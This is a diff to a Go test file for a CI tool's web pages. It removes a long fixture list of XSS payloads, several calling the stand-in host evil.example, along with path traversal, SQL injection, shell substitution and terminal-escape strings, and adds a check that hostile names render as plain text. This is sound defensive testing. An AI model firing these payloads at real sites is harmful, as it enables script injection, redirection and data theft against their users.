@@ -13,32 +13,8 @@ import (
 	"golang.org/x/net/html"
 
 	"github.com/velocity-ci/velocity/architect/build"
+	"github.com/velocity-ci/velocity/blueprint/plan"
 )
-
-// attacks are what somebody could call a branch, a test, a file or themselves.
-var attacks = []string{
-	`<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(1)>`,
-	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`, `<iframe src=javascript:alert(1)>`,
-	`<iframe srcdoc="<script>alert(1)</script>">`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
-	`<math><mtext></mtext><script>alert(1)</script></math>`, `<a href="javascript:alert(1)">x</a>`, `<form action=//evil.example><button>x`, `<base href=//evil.example/>`,
-	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{background:url(//evil.example)}</style>`, `<object data=//evil.example>`,
-	`<embed src=//evil.example>`, `<video><source onerror=alert(1)>`, `<marquee onstart=alert(1)>`, `<template><script>alert(1)</script></template>`,
-	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</script><script>alert(1)</script>`,
-	`</style><script>alert(1)</script>`, `</main></body></html><script>alert(1)</script>`, `</pre><script>alert(1)</script>`, `</option></select><script>alert(1)</script>`,
-	`<!--><script>alert(1)</script>-->`, `--><script>alert(1)</script><!--`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script/>`,
-	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=`alert(1)", `" autofocus onfocus="alert(1)" x="`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`,
-	`" style="background:url(//evil.example)`, `x" href="javascript:alert(1)`, `javascript:alert(1)`, "java\tscript:alert(1)", "\x01javascript:alert(1)", `JaVaScRiPt:alert(1)`,
-	`data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `//evil.example/x`, `\\evil.example\x`, `https://evil.example/`, `../../../../etc/passwd`,
-	`?attempt=2#L1`, `#main`, `%3Cscript%3Ealert(1)%3C/script%3E`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&quot;onload=alert(1)`,
-	`{{.}}`, `{{template "live" .}}`, `${alert(1)}`, `#{alert(1)}`, `<%= alert(1) %>`, `{{constructor.constructor('alert(1)')()}}`,
-	`\u003cscript\u003ealert(1)\u003c/script\u003e`, `\x3cscript\x3e`, `'-alert(1)-'`, `";alert(1)//`, `');alert(1);('`, `*/alert(1)/*`, `]]>`, `}}`,
-	"\x1b[31m<b>\x1b[0m", "\x1b]0;title\x07x", "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[Hx", "\x1bP1$tx\x1b\\y", "\u009b31mx", "\u009d0;x\u009cy", "\x1b]1337;File=:x\x07y",
-	"\x1b[8mhidden\x1b[0m", "\x1b(0x\x1b(B", "x\x1b", "x\x1b[", "x\x1b[31", "\x0ex\x0f", "x\x7f", "x\x00y",
-	"\u202etxt.exe", "\u202dx\u202c", "\u2066x\u2069", "\u200ex\u200f", "\u061cx", "x\u2028y", "x\u2029y", "\ufeffx", "x\u2060y", "\U000e0041\U000e007fx",
-	"x\r\n\r\nevent: end\ndata: \"x\"\n\n", "x\ndata: y", "x\rid: 1\r", "x\n\nretry: 0\n\n", ":\n\nevent: build\ndata: \"<script>\"", "x\r\nSet-Cookie: a=b",
-	"\xff\xfe<script>", "\xc0\xbcscript\xc0\xbe", "+ADw-script+AD4-", "\xf0\x28\x8c\x28x", "x\ud7ff\ue000", "﹤script﹥＜script＞",
-	strings.Repeat("x", 5000), strings.Repeat("<b>", 500), "a.b/c d&e=f;g?h#i", "x' OR '1'='1", "$(touch x)`touch x`",
-}
 
 // taint puts a text into every field of a view that holds text from outside.
 func taint(v reflect.Value, text string) {
@@ -136,12 +112,10 @@ func leads(n *html.Node) (away []string) {
 // Whatever somebody calls something, in any field of any page, is text: no element
 // and no attribute comes of it, and no link leads elsewhere.
 func TestHostileTextIsText(t *testing.T) {
-	if len(attacks) < 100 {
-		t.Fatalf("there are %d attacks", len(attacks))
-	}
-	benign := map[string][]string{}
+	benign, places := map[string][]string{}, map[string][]string{}
 	for name, v := range examples() {
-		benign[name] = shape(drawn(t, tainted(&v, "plain"), v))
+		doc := drawn(t, tainted(&v, benignText), v)
+		benign[name], places[name] = shape(doc), texts(doc)
 	}
 	for _, attack := range attacks {
 		for name, v := range examples() {
@@ -149,11 +123,38 @@ func TestHostileTextIsText(t *testing.T) {
 			if got := shape(doc); !slices.Equal(got, benign[name]) {
 				t.Errorf("%q changes the page %s: %s", attack, name, difference(benign[name], got))
 			}
+			if lost := lost(places[name], texts(doc), attack); lost != "" && name != "plan" { // which is as terminals have it
+				t.Errorf("%q on the page %s is not shown: %s", attack, name, lost)
+			}
 			if away := leads(doc); away != nil {
 				t.Errorf("%q on the page %s leads to %q", attack, name, away)
 			}
 		}
 	}
+}
+
+// benignText stands where attacks will: no page says so by itself.
+const benignText = "benign7"
+
+// lost finds where a text is not shown as it is, or in one of the short forms that
+// pages have for names.
+func lost(places, got []string, attack string) string {
+	if len(places) != len(got) {
+		return fmt.Sprintf("there are %d texts instead of %d", len(got), len(places))
+	}
+	forms := []string{attack, first(attack), person(attack), branch(attack), eventName(plan.Event(attack)), plan.Commit(attack).Short()}
+	for i, form := range forms {
+		forms[i] = string(visible([]byte(strings.ReplaceAll(form, "\x00", "\ufffd")))) // as html/template has it
+	}
+	for i, place := range places {
+		if !slices.ContainsFunc(forms, func(one string) bool {
+			rest := strings.Replace(place, benignText, one, 1) // which may be beside another
+			return slices.ContainsFunc(forms, func(other string) bool { return got[i] == strings.ReplaceAll(rest, benignText, other) })
+		}) {
+			return fmt.Sprintf("%q instead of %q", got[i], place)
+		}
+	}
+	return ""
 }
 
 // tainted puts a text into a view and its frame.
